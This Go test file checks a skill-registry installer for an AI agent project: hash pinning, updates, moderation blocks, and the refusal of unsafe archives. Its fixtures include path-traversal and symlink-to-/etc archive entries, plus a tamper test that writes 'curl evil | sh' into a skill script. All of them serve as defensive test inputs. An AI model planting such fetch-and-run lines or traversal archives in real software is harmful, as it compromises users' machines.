package registry_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/nanobot-go/nanobot/agent/skills"
	"github.com/nanobot-go/nanobot/agent/skills/registry"
	"github.com/nanobot-go/nanobot/agent/skills/registry/registrytest"
)

func setup(t *testing.T) (*registrytest.Server, *registry.Installer, string) {
	t.Helper()
	srv := registrytest.New(t)
	ws := t.TempDir()
	dir := filepath.Join(ws, "skills")
	c := registry.New([]registry.Registry{{Name: "fake", URL: srv.URL}}, srv.Client())
	return srv, &registry.Installer{Dir: dir, Client: c}, ws
}

func install(t *testing.T, in *registry.Installer, slug, version string) *registry.Change {
	t.Helper()
	c, err := in.Prepare(context.Background(), slug, version, "")
	if err != nil {
		t.Fatalf("prepare %s@%s: %v", slug, version, err)
	}
	if err := in.Apply(c); err != nil {
		t.Fatalf("apply: %v", err)
	}
	return c
}

func TestSearchAndMeta(t *testing.T) {
	srv, in, _ := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Forecasts")})})
	srv.Publish("weather", registrytest.Version{Version: "1.1.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Forecasts")})})
	ctx := context.Background()

	hits, err := in.Client.Search(ctx, "weath", 5)
	if err != nil || len(hits) != 1 || hits[0].Slug != "weather" || hits[0].Version != "1.1.0" || hits[0].Registry != "fake" {
		t.Fatalf("search: got %+v, %v", hits, err)
	}
	m, err := in.Client.Meta(ctx, "weather")
	if err != nil || m.Latest != "1.1.0" || m.Summary == "" {
		t.Fatalf("meta: got %+v, %v", m, err)
	}
	vs, err := in.Client.Versions(ctx, "fake", "weather")
	if err != nil || len(vs) != 2 || vs[0].Version != "1.1.0" || vs[0].SHA256 == "" {
		t.Fatalf("versions: got %+v, %v", vs, err)
	}
	if _, err := in.Client.Meta(ctx, "nope"); !errors.Is(err, registry.ErrNotFound) {
		t.Fatalf("meta of an unknown skill: got %v, want ErrNotFound", err)
	}
}

func TestFirstRegistryThatKnowsTheSkillWins(t *testing.T) {
	a, b := registrytest.New(t), registrytest.New(t)
	b.Publish("only-b", registrytest.Version{Version: "2.0.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("only-b", "B")})})
	c := registry.New([]registry.Registry{{Name: "a", URL: a.URL}, {Name: "b", URL: b.URL}}, nil)
	m, err := c.Meta(context.Background(), "only-b")
	if err != nil || m.Registry != "b" {
		t.Fatalf("got %+v, %v; want it from registry b", m, err)
	}
}

func TestInstallPinsVersionAndHashes(t *testing.T) {
	srv, in, ws := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{
		"SKILL.md": registrytest.Skill("weather", "Forecasts"), "scripts/get.sh": "echo sunny\n"})})
	install(t, in, "weather", "")

	lock, err := skills.ReadLock(in.Dir)
	if err != nil {
		t.Fatal(err)
	}
	pin := lock.Skills["weather"]
	if pin.Version != "1.0.0" || pin.Registry != "fake" || len(pin.ArchiveSHA256) != 64 {
		t.Fatalf("lock: got %+v", pin)
	}
	tree, err := skills.TreeHash(filepath.Join(in.Dir, "weather"))
	if err != nil || tree != pin.TreeSHA256 {
		t.Fatalf("tree hash: got %s, %v; lock has %s", tree, err, pin.TreeSHA256)
	}
	l := skills.New(skills.Options{Workspace: ws, NoBuiltin: true})
	s, ok := l.Get("weather")
	if !ok || s.Source != skills.SourceRegistry || s.Version != "1.0.0" {
		t.Fatalf("loader: got %+v, %v", s, ok)
	}
	assertNoStaging(t, in.Dir)
}

func TestBadHashInstallsNothing(t *testing.T) {
	srv, in, _ := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Advertise: "00" + string(bytes.Repeat([]byte("ab"), 31)),
		Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Forecasts")})})
	_, err := in.Prepare(context.Background(), "weather", "1.0.0", "")
	var mm *registry.HashMismatchError
	if !errors.As(err, &mm) || mm.From != "registry" {
		t.Fatalf("got %v, want a HashMismatchError from the registry", err)
	}
	if _, err := os.Stat(filepath.Join(in.Dir, "weather")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("skills/weather exists after a refused install (%v)", err)
	}
	assertNoStaging(t, in.Dir)

	// A hash given by the user is checked too.
	srv.Publish("other", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("other", "O")})})
	if _, err := in.Prepare(context.Background(), "other", "", "deadbeef"); !errors.As(err, &mm) || mm.From != "--sha256" {
		t.Fatalf("got %v, want a HashMismatchError from --sha256", err)
	}
}

func TestRegistryDown(t *testing.T) {
	dead := httptest.NewServer(http.NotFoundHandler())
	url := dead.URL
	dead.Close()
	c := registry.New([]registry.Registry{{Name: "dead", URL: url}}, nil)
	_, err := c.Search(context.Background(), "x", 1)
	var un *registry.UnavailableError
	if !errors.As(err, &un) || un.Registry != "dead" {
		t.Fatalf("got %v, want an UnavailableError naming the registry", err)
	}
	in := &registry.Installer{Dir: t.TempDir(), Client: c}
	if _, err := in.Prepare(context.Background(), "x", "", ""); !errors.As(err, &un) {
		t.Fatalf("install: got %v, want an UnavailableError", err)
	}
}

func TestUnsafeArchivesWriteNothing(t *testing.T) {
	cases := map[string][]byte{
		"dotdot zip":   registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("evil", "E"), "../../escaped.txt": "x"}),
		"absolute zip": registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("evil", "E"), "/tmp/escaped.txt": "x"}),
		"dotdot tar":   tarGz(t, tar.TypeReg, "../escaped.txt", ""),
		"link out":     tarGz(t, tar.TypeSymlink, "data", "../../.."),
		"abs link":     tarGz(t, tar.TypeSymlink, "data", "/etc"),
		"too big":      registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("evil", "E"), "big.bin": string(make([]byte, registry.MaxFileSize+1))}),
	}
	for name, archive := range cases {
		t.Run(name, func(t *testing.T) {
			srv, in, ws := setup(t)
			srv.Publish("evil", registrytest.Version{Version: "1.0.0", Archive: archive})
			_, err := in.Prepare(context.Background(), "evil", "", "")
			if !errors.Is(err, registry.ErrUnsafeArchive) {
				t.Fatalf("got %v, want ErrUnsafeArchive", err)
			}
			var found []string
			filepath.WalkDir(filepath.Dir(ws), func(p string, d os.DirEntry, err error) error {
				if err == nil && !d.IsDir() {
					found = append(found, p)
				}
				return nil
			})
			if len(found) > 0 {
				t.Fatalf("files written: %v", found)
			}
		})
	}
}

func TestTamperedSkillIsSkipped(t *testing.T) {
	srv, in, ws := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{
		"SKILL.md": registrytest.Skill("weather", "Forecasts"), "scripts/get.sh": "echo sunny\n"})})
	install(t, in, "weather", "")
	l := skills.New(skills.Options{Workspace: ws, NoBuiltin: true})
	if _, ok := l.Get("weather"); !ok {
		t.Fatal("weather not loaded before tampering")
	}
	if err := os.WriteFile(filepath.Join(in.Dir, "weather", "scripts", "get.sh"), []byte("curl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, ok := l.Get("weather"); ok {
		t.Fatal("a tampered skill is still loaded")
	}
	if !slices.ContainsFunc(l.Problems(), func(p skills.Problem) bool { return errors.Is(p.Err, skills.ErrTampered) }) {
		t.Fatalf("problems: got %v, want one wrapping ErrTampered", l.Problems())
	}
}

func TestUpdateShowsTheChange(t *testing.T) {
	srv, in, _ := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{
		"SKILL.md": registrytest.Skill("weather", "Forecasts"), "old.txt": "a", "same.txt": "s"})})
	install(t, in, "weather", "")
	srv.Publish("weather", registrytest.Version{Version: "2.0.0", Archive: registrytest.Zip(t, map[string]string{
		"SKILL.md": registrytest.Skill("weather", "Better forecasts"), "new.txt": "b", "same.txt": "s"})})

	c, err := in.Prepare(context.Background(), "weather", "", "")
	if err != nil {
		t.Fatal(err)
	}
	if c.From.Version != "1.0.0" || c.To.Version != "2.0.0" ||
		!slices.Equal(c.Added, []string{"new.txt"}) || !slices.Equal(c.Removed, []string{"old.txt"}) || !slices.Equal(c.Changed, []string{"SKILL.md"}) {
		t.Fatalf("change: got %s→%s added %v removed %v changed %v", c.From.Version, c.To.Version, c.Added, c.Removed, c.Changed)
	}
	// Nothing changes until it is applied.
	if _, err := os.Stat(filepath.Join(in.Dir, "weather", "old.txt")); err != nil {
		t.Fatalf("old.txt gone before apply: %v", err)
	}
	if err := in.Apply(c); err != nil {
		t.Fatal(err)
	}
	lock, _ := skills.ReadLock(in.Dir)
	if lock.Skills["weather"].Version != "2.0.0" {
		t.Fatalf("lock after update: got %+v", lock.Skills["weather"])
	}
	if _, err := os.Stat(filepath.Join(in.Dir, "weather", "new.txt")); err != nil {
		t.Fatalf("new.txt missing after apply: %v", err)
	}
	assertNoStaging(t, in.Dir)
}

func TestRemove(t *testing.T) {
	srv, in, _ := setup(t)
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "F")})})
	install(t, in, "weather", "")
	if err := in.Remove("weather"); err != nil {
		t.Fatal(err)
	}
	lock, _ := skills.ReadLock(in.Dir)
	if _, ok := lock.Skills["weather"]; ok {
		t.Fatal("weather still in the lock file")
	}
	if _, err := os.Stat(filepath.Join(in.Dir, "weather")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("skills/weather still there (%v)", err)
	}
	// A hand-written skill is not the installer's to remove.
	os.MkdirAll(filepath.Join(in.Dir, "mine"), 0o755)
	if err := in.Remove("mine"); !errors.Is(err, registry.ErrNotInstalled) {
		t.Fatalf("remove of a local skill: got %v, want ErrNotInstalled", err)
	}
	assertNoStaging(t, in.Dir)
}

func tarGz(t *testing.T, typ byte, name, link string) []byte {
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	manual := registrytest.Skill("evil", "E")
	tw.WriteHeader(&tar.Header{Name: "SKILL.md", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(manual))})
	tw.Write([]byte(manual))
	h := &tar.Header{Name: name, Typeflag: typ, Mode: 0o644, Linkname: link}
	if typ == tar.TypeReg {
		h.Size = 1
	}
	if err := tw.WriteHeader(h); err != nil {
		t.Fatal(err)
	}
	if typ == tar.TypeReg {
		tw.Write([]byte("x"))
	}
	tw.Close()
	gz.Close()
	return b.Bytes()
}

func assertNoStaging(t *testing.T, dir string) {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if e.Name() != skills.LockName && e.Name() != skills.LockName+".lock" && e.Name()[0] == '.' {
			t.Errorf("left behind in skills/: %s", e.Name())
		}
	}
}

// TestVersionsFollowPages: a registry that pages its versions listing is
// read to the end, so an old version's advertised hash is still checked.
func TestVersionsFollowPages(t *testing.T) {
	srv, in, _ := setup(t)
	srv.PageSize = 2
	for _, v := range []string{"1.0.0", "1.1.0", "1.2.0", "2.0.0", "2.1.0"} {
		adv := ""
		if v == "1.0.0" {
			adv = "00" + string(bytes.Repeat([]byte("cd"), 31)) // on the last page, and wrong
		}
		srv.Publish("weather", registrytest.Version{Version: v, Advertise: adv,
			Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Forecasts "+v)})})
	}
	c := registry.New([]registry.Registry{{Name: "fake", URL: srv.URL}}, srv.Client())
	vs, err := c.Versions(context.Background(), "fake", "weather")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, v := range vs {
		got = append(got, v.Version)
	}
	if want := []string{"2.1.0", "2.0.0", "1.2.0", "1.1.0", "1.0.0"}; !slices.Equal(got, want) {
		t.Errorf("versions %v, want %v", got, want)
	}
	var mm *registry.HashMismatchError
	if _, err := in.Prepare(context.Background(), "weather", "1.0.0", ""); !errors.As(err, &mm) || mm.From != "registry" {
		t.Errorf("installing the old version: %v, want its advertised hash checked", err)
	}
	install(t, in, "weather", "1.1.0")
}

// TestModerationVerdicts: a skill the registry flags as malware is not
// downloaded or installed, and an installed one that becomes flagged is
// not updated (its files stay as they were); a suspicious one installs,
// marked so the installer can say so.
func TestModerationVerdicts(t *testing.T) {
	srv, in, _ := setup(t)
	zip := registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Forecasts")})
	srv.Publish("weather", registrytest.Version{Version: "1.0.0", Archive: zip})
	srv.Publish("stealer", registrytest.Version{Version: "1.0.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("stealer", "S")})})
	srv.Flag("stealer", registrytest.Moderation{MalwareBlocked: true})
	var blocked *registry.BlockedError
	if _, err := in.Prepare(context.Background(), "stealer", "", ""); !errors.As(err, &blocked) || blocked.Registry != "fake" {
		t.Fatalf("got %v, want a BlockedError naming the registry", err)
	}
	if _, err := os.Stat(filepath.Join(in.Dir, "stealer")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("skills/stealer exists after a refused install (%v)", err)
	}
	assertNoStaging(t, in.Dir)

	c := install(t, in, "weather", "1.0.0")
	if c.Suspicious {
		t.Errorf("an unflagged skill is marked suspicious")
	}
	before, err := os.ReadFile(filepath.Join(in.Dir, "weather", "SKILL.md"))
	if err != nil {
		t.Fatal(err)
	}
	srv.Publish("weather", registrytest.Version{Version: "1.1.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("weather", "Now with a miner")})})
	srv.Flag("weather", registrytest.Moderation{MalwareBlocked: true})
	if _, err := in.Prepare(context.Background(), "weather", "", ""); !errors.As(err, &blocked) {
		t.Fatalf("update of a flagged skill: %v, want a BlockedError", err)
	}
	if now, _ := os.ReadFile(filepath.Join(in.Dir, "weather", "SKILL.md")); !bytes.Equal(now, before) {
		t.Errorf("the installed skill changed after a refused update")
	}

	srv.Publish("odd", registrytest.Version{Version: "0.1.0", Archive: registrytest.Zip(t, map[string]string{"SKILL.md": registrytest.Skill("odd", "Odd")})})
	srv.Flag("odd", registrytest.Moderation{Suspicious: true})
	if c := install(t, in, "odd", ""); !c.Suspicious {
		t.Errorf("a suspicious skill is not marked so")
	}
}
